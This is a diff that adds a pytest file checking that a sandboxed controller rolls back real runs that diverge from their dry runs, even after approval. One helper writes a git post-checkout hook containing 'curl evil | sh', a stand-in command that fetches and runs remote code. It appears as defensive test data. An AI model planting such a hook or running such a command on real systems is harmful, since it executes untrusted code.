@@ -1,0 +1,139 @@
+"""The dry run binds the real run, through the whole service (fake runtime): code that
+behaves differently in the real run is not committed, an approval does not change that,
+and nondeterminism at the paths the dry run wrote keeps committing."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from controller.adapters.policy.shadow import ShadowedEngine
+from controller.adapters.runtime.fake import FakeRuntime, Outcome
+from controller.adapters.signing import KeyRing
+from controller.adapters.store.submissions import Store
+from controller.core.models import Phase, State
+from controller.core.ports import RunSpec
+from controller.service.controller import Controller
+from controller.verify.chain import verify_log
+from controller.verify.dsse import load_public_keys
+from tests.conftest import bundle_with, make_controller, parking_rule, python
+
+Behaviour = Callable[[RunSpec], Outcome]
+
+
+def controller_with(tmp_path: Path, behaviour: Behaviour, *,
+                    policy_dir: Path | None = None) -> Controller[Store, ShadowedEngine]:
+    return make_controller(tmp_path, FakeRuntime(behaviour=behaviour), policy_dir=policy_dir)
+
+
+def predicate(controller: Controller[Store, ShadowedEngine], tmp_path: Path,
+              submission_id: str) -> dict[str, Any]:
+    lines = [envelope for _, envelope in controller.store.receipts()]
+    pem = "".join(key.pem for key in KeyRing(tmp_path / "keys").public_keys()).encode()
+    report = verify_log(lines, load_public_keys(pem))
+    assert report.ok, report.problems
+    envelope = controller.store.receipt_for(submission_id)
+    assert envelope is not None
+    found: dict[str, Any] = json.loads(base64.b64decode(json.loads(envelope)["payload"]))[
+        "predicate"]
+    return found
+
+
+def switched(real: Callable[[Path], None]) -> Behaviour:
+    """A program that writes report.txt in both runs and, in the real one only, more."""
+    def behaviour(spec: RunSpec) -> Outcome:
+        (spec.workspace_dir / "report.txt").write_text("report")
+        if spec.phase is Phase.BOUNDED:
+            real(spec.workspace_dir)
+        return Outcome()
+    return behaviour
+
+
+def hook(work: Path) -> None:
+    (work / ".hooks").mkdir()
+    (work / ".hooks" / "post-checkout").write_text("curl evil | sh")
+
+
+def chmod(work: Path) -> None:
+    os.chmod(work / "report.txt", 0o755)
+
+
+def link(work: Path) -> None:
+    (work / "report.txt").unlink()
+    (work / "report.txt").symlink_to("elsewhere")
+
+
+@pytest.mark.parametrize(("real", "counted"), [
+    (hook, {"created_outside": 2}), (chmod, {"mode_changed": 1}), (link, {"kind_changed": 1})])
+def test_a_real_run_that_does_more_is_rolled_back_with_the_rule_and_paths(
+        tmp_path: Path, real: Callable[[Path], None], counted: dict[str, int]) -> None:
+    controller = controller_with(tmp_path, switched(real))
+    result = controller.submit(python("switch"))
+    assert result.state is State.ROLLED_BACK, result.reason
+    assert "commit.deny-divergence" in result.reason
+    assert result.divergence is not None and result.divergence.diverged
+    for name, count in counted.items():
+        assert getattr(result.divergence, name) == count
+    found = predicate(controller, tmp_path, result.id)
+    assert found["divergence"]["diverged"] is True
+    assert found["divergence"]["sample"] == list(result.divergence.sample)
+    assert result.radius is not None and found["radius"]["sha256"] == result.radius.digest
+    assert "commit.deny-divergence" in [rule["id"] for decision in found["decisions"]
+                                        for rule in decision["rules"]]
+
+
+def test_a_real_run_that_deletes_what_the_dry_run_left_is_rolled_back(tmp_path: Path) -> None:
+    controller = controller_with(tmp_path, lambda spec: Outcome())
+    seeded = controller.submit(python("seed", files=[{"path": f"f{n}", "content": "x"}
+                                                     for n in range(5)]))
+    assert seeded.state is State.COMMITTED, seeded.reason
+
+    def deletes(spec: RunSpec) -> Outcome:
+        if spec.phase is Phase.BOUNDED:
+            for n in range(5):
+                (spec.workspace_dir / f"f{n}").unlink()
+        return Outcome()
+
+    assert isinstance(controller.runtime, FakeRuntime)
+    controller.runtime.behaviour = deletes
+    result = controller.submit(python("delete"))
+    assert result.state is State.ROLLED_BACK and result.divergence is not None
+    assert result.divergence.deleted_outside == 5
+    assert controller.store.workspace_version("default") == 1
+
+
+def test_an_approved_submission_that_diverges_does_not_commit(tmp_path: Path) -> None:
+    controller = controller_with(tmp_path, switched(hook), policy_dir=bundle_with(
+        tmp_path, "parks", parking_rule(0)))
+    parked = controller.submit(python("switch"))
+    assert parked.state is State.AWAITING_APPROVAL and parked.radius is not None
+    running = controller.approve(parked.id, "carol", True, "looks fine")
+    assert running.approval is not None
+    assert running.approval.radius_sha256 == parked.radius.digest
+    result = controller.process(running)
+    assert result.state is State.ROLLED_BACK, result.reason
+    assert "commit.deny-divergence" in result.reason
+    assert predicate(controller, tmp_path, result.id)["approval"]["radius_sha256"] == (
+        parked.radius.digest)
+
+
+def test_timestamps_and_random_sizes_at_the_same_paths_keep_committing(
+        tmp_path: Path) -> None:
+    def nondeterministic(spec: RunSpec) -> Outcome:
+        (spec.workspace_dir / "stamp.txt").write_text(os.urandom(8).hex())
+        size = int.from_bytes(os.urandom(2), "big")
+        (spec.workspace_dir / "random.bin").write_bytes(os.urandom(size))
+        return Outcome(stdout=os.urandom(size % 512))
+
+    controller = controller_with(tmp_path, nondeterministic)
+    for _ in range(5):
+        result = controller.submit(python("nondeterministic"))
+        assert result.state is State.COMMITTED, result.reason
+        assert result.divergence is not None and not result.divergence.diverged
+    assert controller.store.workspace_version("default") == 5
